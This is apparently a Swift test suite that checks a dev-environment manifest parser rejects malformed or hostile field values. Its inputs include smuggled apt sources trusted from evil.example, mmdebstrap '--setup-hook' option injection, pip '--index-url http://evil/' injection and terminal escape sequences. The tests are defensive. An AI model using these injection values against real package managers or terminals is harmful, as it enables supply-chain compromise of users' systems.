import Foundation
import Testing
@testable import Manifest

/// Issue 12: every manifest and lock value that reaches a host command line, path or terminal is
/// held to a strict grammar at parse time, with the place and the fix.
@Suite struct FieldGrammarTests {
    static let file = "/p/.devenv/devenv.toml"

    func failure(_ text: String, sourceLocation: SourceLocation = #_sourceLocation) throws -> ManifestError {
        do {
            let manifest = try Manifest.parse(text, file: Self.file, home: "/home/ada")
            Issue.record("parsed, expected an error: \(manifest)", sourceLocation: sourceLocation)
            throw CancellationError()
        } catch let error as ManifestError {
            return error
        }
    }

    // MARK: The bootstrap base

    @Test func aNewlineInTheMirrorIsRefusedWhereItIs() throws {
        // The attack: a second sources-list line of the attacker's, trusted without a signature.
        let error = try failure("""
            [base]
            bootstrap = "debian:bookworm"
            mirror = "http://deb.debian.org/debian\\ndeb [trusted=yes] http://evil.example/ bookworm main"
            """)
        #expect(error.position == SourcePosition(line: 3, column: 10))
        #expect(error.problem == #"mirror "http://deb.debian.org/debian\ndeb [trusted=yes] http://evil.example/ bookworm main" contains a line break or another control character"#)
        #expect(error.fix.hasPrefix("write mirror = \"http://deb.debian.org/debian\""))
        #expect(!error.description.contains("\n deb"), "the newline is escaped, not printed")
    }

    @Test(arguments: [
        "http://deb.debian.org/debian deb [trusted=yes] http://evil/ x main",
        "http://[trusted=yes]/debian",
        "http://deb.debian.org/debian/[trusted=yes]",
        "--setup-hook=touch /tmp/x",
        "file:///etc/apt",
        "/srv/mirror",
        "http://",
        "http:///debian",
        "http://-host/debian",
        "http://host:99999/debian",
        "http://host/debian?x=1",
        "http://host/deb%0aian",
        "http://host/deb\"ian",
        "http://héllo/debian",
        "ftp://deb.debian.org/debian",
    ])
    func mirrorsThatAreNotOneHTTPURLAreRefused(mirror: String) {
        #expect(FieldGrammar.mirrorProblem(mirror) != nil, "\(mirror)")
    }

    @Test(arguments: [
        "http://deb.debian.org/debian", "https://deb.debian.org/debian/", "http://127.0.0.1:3142/debian",
        "http://[::1]:8080/debian", "http://user:p%40ss@mirror.example.com/debian", "http://mirror_1.lan/~ada/debian",
    ])
    func plainMirrorsAreAccepted(mirror: String) {
        #expect(FieldGrammar.mirrorProblem(mirror) == nil, "\(mirror)")
    }

    @Test func aBootstrapSuiteCannotBeAnOption() throws {
        let hook = try failure("[base]\nbootstrap = \"debian:--setup-hook=touch /tmp/owned\"\n")
        #expect(hook.position == SourcePosition(line: 2, column: 13))
        #expect(hook.problem == #"bootstrap "debian:--setup-hook=touch /tmp/owned" is not of the form "debian:SUITE" with a suite starting with a lowercase letter"#)
        #expect(hook.fix.hasPrefix("write bootstrap = \"debian:bookworm\""))
        // Letters and dashes only: the old grammar let this reach mmdebstrap as an option.
        #expect(try failure("[base]\nbootstrap = \"debian:--setup-hook\"\n").position == SourcePosition(line: 2, column: 13))
    }

    @Test(arguments: ["debian:bookworm", "debian:trixie", "debian:sid", "debian:bookworm-backports", "debian:stable", "debian:oldstable-proposed-updates"])
    func debianSuitesAreAccepted(bootstrap: String) {
        #expect(FieldGrammar.bootstrapProblem(bootstrap) == nil)
    }

    @Test(arguments: ["debian:", "debian:Bookworm", "debian:-x", "debian:1x", "debian:book worm", "debian:bookworm\n", "ubuntu:jammy",
                      "debian:" + String(repeating: "a", count: 41), "debian:book/worm", "debian:bookworm:x"])
    func otherSuitesAreRefused(bootstrap: String) {
        #expect(FieldGrammar.bootstrapProblem(bootstrap) != nil)
    }

    @Test func theLockIsHeldToTheSameGrammar() throws {
        func lockFailure(_ base: String) throws -> ManifestError {
            let text = "{\"base\": {\(base)}, \"version\": 1}"
            do {
                let lock = try Lock.decode(Data(text.utf8), file: "/p/.devenv/devenv.lock")
                Issue.record("loaded, expected an error: \(lock)")
                throw CancellationError()
            } catch let error as ManifestError {
                return error
            }
        }
        let hook = try lockFailure(#""bootstrap": "debian:--setup-hook=touch /tmp/owned""#)
        #expect(hook.problem.hasPrefix(#""base.bootstrap" "debian:--setup-hook=touch /tmp/owned" is not of the form"#))
        #expect(hook.position == SourcePosition(line: 1, column: 24))
        #expect(hook.fix == "run `devenv lock --update` to write it again")
        let mirror = try lockFailure(#""bootstrap": "debian:bookworm", "mirror": "http://m/debian\ndeb [trusted=yes] http://evil/ x main""#)
        #expect(mirror.problem.hasPrefix(#""base.mirror" "http://m/debian\ndeb [trusted=yes]"#))
        #expect(mirror.position == SourcePosition(line: 1, column: 53))
        let platform = try lockFailure(#""image": "debian", "digest": "sha256:\#(String(repeating: "a", count: 64))", "platform": "linux/amd64\n""#)
        #expect(platform.problem.hasPrefix(#""base.platform" "linux/amd64\n" is not of the form"#))
    }

    @Test func lockVersionsMustBeVersions() throws {
        let hash = String(repeating: "b", count: 64)
        let text = """
            {"base": {"image": "debian", "digest": "sha256:\(String(repeating: "a", count: 64))"}, "version": 1,
             "pip": {"requested": ["six"], "python": "3.11.2", "distributions": [{"name": "six", "version": "1.0#--index-url=x", "sha256": ["\(hash)"]}]}}
            """
        #expect(throws: ManifestError.self) { try Lock.decode(Data(text.utf8), file: "l") }
        let apt = """
            {"base": {"image": "debian", "digest": "sha256:\(String(repeating: "a", count: 64))"}, "version": 1,
             "apt": {"requested": ["jq"], "packages": [{"name": "jq", "version": "1.6", "architecture": "\(String(repeating: "a", count: 33))"}]}}
            """
        #expect(throws: ManifestError.self) { try Lock.decode(Data(apt.utf8), file: "l") }
    }

    // MARK: Every other field

    @Test func namesAreWordsForPathsAndTerminals() throws {
        let escape = try failure("name = \"web\\u001b]0;owned\\u0007\"\n[base]\nimage = \"d\"\n")
        #expect(escape.position == SourcePosition(line: 1, column: 8))
        #expect(escape.problem == #"name "web\u{1b}]0;owned\u{7}" may hold only letters, digits, ., _ and -"#)
        #expect(try failure("name = \"../x\"\n[base]\nimage = \"d\"\n").problem.hasSuffix("must start with a letter or digit"))
        #expect(try failure("name = \"-rf\"\n[base]\nimage = \"d\"\n").problem.hasSuffix("must start with a letter or digit"))
        #expect(try failure("name = \"\(String(repeating: "a", count: 65))\"\n[base]\nimage = \"d\"\n").problem.hasSuffix("is longer than 64 characters"))
        let step = try failure("[base]\nimage = \"d\"\n[[setup]]\nname = \"a/b\"\nrun = \"true\"\n")
        #expect(step.position == SourcePosition(line: 4, column: 8))
        #expect(step.problem == #"setup step name "a/b" may hold only letters, digits, ., _ and -"#)
    }

    @Test func environmentValuesHaveNoNULAndBoundedSizes() throws {
        // toml++ would hand over "x": refused where the escape is, not silently cut.
        let nul = try failure("[base]\nimage = \"d\"\n[env]\nA = \"x\\u0000y\"\n")
        #expect(nul.position == SourcePosition(line: 4, column: 7))
        #expect(nul.problem == "a \\u0000 escape (NUL) has no place in a manifest: devenv would see the string cut short there")
        #expect(try failure("[base]\nimage = \"d\"\n[env]\n\"A\\U00000000\" = \"x\"\n").position == SourcePosition(line: 4, column: 3))
        #expect(try Manifest.parse("[base]\nimage = \"d\"\n[env]\nA = \"x\\\\u0000y\"\n", file: Self.file, home: "/h").env.first?.value == "x\\u0000y",
                "an escaped backslash before u0000 is no NUL")
        let huge = try failure("[base]\nimage = \"d\"\n[env]\nA = \"\(String(repeating: "x", count: 100_000))\"\n")
        #expect(huge.position == SourcePosition(line: 4, column: 5))
        #expect(huge.problem.hasPrefix("A is 100000 bytes; a variable takes at most"))
        let name = try failure("[base]\nimage = \"d\"\n[env]\n\"A\\nB\" = \"x\"\n")
        #expect(name.problem.hasPrefix(#""A\nB" is not a valid environment variable name"#))
        // Newlines and tabs are fine in a value (a certificate, a script).
        let multiline = try Manifest.parse("[base]\nimage = \"d\"\n[env]\nA = \"one\\ntwo\\tthree\"\n", file: Self.file, home: "/h")
        #expect(multiline.env == [Manifest.Variable(name: "A", value: "one\ntwo\tthree")])
    }

    @Test func tooManyEntriesAreRefusedWithTheLimit() throws {
        let keys = (0..<50_001).map { "K\($0) = \"\"" }.joined(separator: "\n")
        let env = try failure("[base]\nimage = \"d\"\n[env]\n\(keys)\n")
        #expect(env.position == SourcePosition(line: 3, column: 2))
        #expect(env.problem == "[env] has 50001 variables; devenv takes at most 50000")
        let apt = try failure("[base]\nimage = \"d\"\n[packages]\napt = [\(Array(repeating: "\"jq\"", count: 1001).joined(separator: ","))]\n")
        #expect(apt.position == SourcePosition(line: 4, column: 7))
        #expect(apt.problem == "apt in [packages] has 1001 entries; devenv takes at most 1000")
        let steps = (0..<101).map { "[[setup]]\nname = \"s\($0)\"\nrun = \"true\"" }.joined(separator: "\n")
        let setup = try failure("[base]\nimage = \"d\"\n\(steps)\n")
        #expect(setup.position == SourcePosition(line: 303, column: 3))
        #expect(setup.problem == "there are 101 [[setup]] steps; devenv takes at most 100 (each is a layer)")
    }

    @Test func twentyThousandVariablesParseInFileOrder() throws {
        let keys = (0..<20_000).map { "K\($0) = \"v\($0)\"" }.joined(separator: "\n")
        let manifest = try Manifest.parse("[base]\nimage = \"d\"\n[env]\n\(keys)\n", file: Self.file, home: "/h")
        #expect(manifest.env.count == 20_000)
        #expect(manifest.env.first == Manifest.Variable(name: "K0", value: "v0"))
        #expect(manifest.env.last == Manifest.Variable(name: "K19999", value: "v19999"))
    }

    @Test func packageEntriesCannotSmuggleLinesOrOptions() throws {
        let newline = try failure("[base]\nimage = \"d\"\n[packages]\npip = [\"six\\n--index-url http://evil/\"]\n")
        // The entry's escaped form is not searched for: the error points at the array.
        #expect(newline.position == SourcePosition(line: 4, column: 7))
        #expect(newline.problem == #"pip entry "six\n--index-url http://evil/" contains a line break or another control character"#)
        let option = try failure("[base]\nimage = \"d\"\n[packages]\npip = [\"six; python_version > '3' --global-option=x\"]\n")
        #expect(option.problem.hasSuffix("has a word starting with -, which pip would read as an option"))
        let url = try failure("[base]\nimage = \"d\"\n[packages]\npip = [\"pkg @ https://x/p.whl\\\"\"]\n")
        #expect(url.problem.hasSuffix("has a URL that has a character that is not allowed in a URL (spaces, quotes, <>, non-ASCII…)"))
        #expect(PipRequirement.problem("pkg @ git+https://github.com/o/r.git@v1.0#egg=pkg") == nil)
        let long = try failure("[base]\nimage = \"d\"\n[packages]\napt = [\"\(String(repeating: "a", count: 513))\"]\n")
        #expect(long.problem.hasSuffix("is longer than 512 characters"))
    }

    @Test func shellAndMountPathsAreOneLine() throws {
        let command = try failure("[base]\nimage = \"d\"\n[shell]\ncommand = \"/bin/sh\\n-c\"\n")
        #expect(command.position == SourcePosition(line: 4, column: 11))
        #expect(command.problem == #"shell command "/bin/sh\n-c" contains a line break or another control character"#)
        #expect(try failure("[base]\nimage = \"d\"\n[shell]\ncommand = \"/bin/../sh\"\n").problem.hasSuffix("has a . or .. component"))
        let workdir = try failure("[base]\nimage = \"d\"\n[shell]\nworkdir = \"/w\\tx\"\n")
        #expect(workdir.problem.hasPrefix(#"workdir "/w\tx" must be "same" or an absolute path"#))
        let mount = try failure("[base]\nimage = \"d\"\n[mounts]\n\"/srv/\\u001b[2J\" = \"ro\"\n")
        #expect(mount.position == SourcePosition(line: 4, column: 1))
        #expect(mount.problem == #"mount "/srv/\u{1b}[2J" contains a line break or another control character"#)
    }

    /// Found by the fuzz test: toml++ only asserts a header's first character, which aborts.
    @Test func aHeaderThatDoesNotStartWithAKeyIsRefusedBeforeTOMLSeesIt() throws {
        for header in ["[:x]", "[[ :x]]", "[\u{e9}]", "[", "  [ {a}]"] {
            let error = try failure("[base]\nimage = \"d\"\n\(header)\n")
            #expect(error.position.line == 3, "\(header)")
            #expect(error.problem == "a table header must start with a key: letters, digits, _ and -, or a quoted key", "\(header)")
        }
        // Not headers: brackets in arrays and strings.
        let manifest = try Manifest.parse("""
            [base]
            image = "d"
            [packages]
            apt = [
              "jq",
            ]
            [[setup]]
            name = "s"
            run = \"\"\"
            [:not a header]
            \"\"\"
            ["shell"]
            command = "/bin/sh"
            """, file: Self.file, home: "/h")
        #expect(manifest.setup.first?.run == "[:not a header]\n")
        #expect(manifest.shell.command == "/bin/sh")
    }

    @Test func messagesQuoteHugeValuesShortly() throws {
        let error = try failure("[base]\nimage = \"d\"\n[network]\nmode = \"\(String(repeating: "x", count: 500_000))\"\n")
        #expect(error.description.utf8.count < 400)
        #expect(FieldGrammar.quote("a\u{9b}b\u{0}") == #""a\u{9b}b\u{0}""#)
    }
}
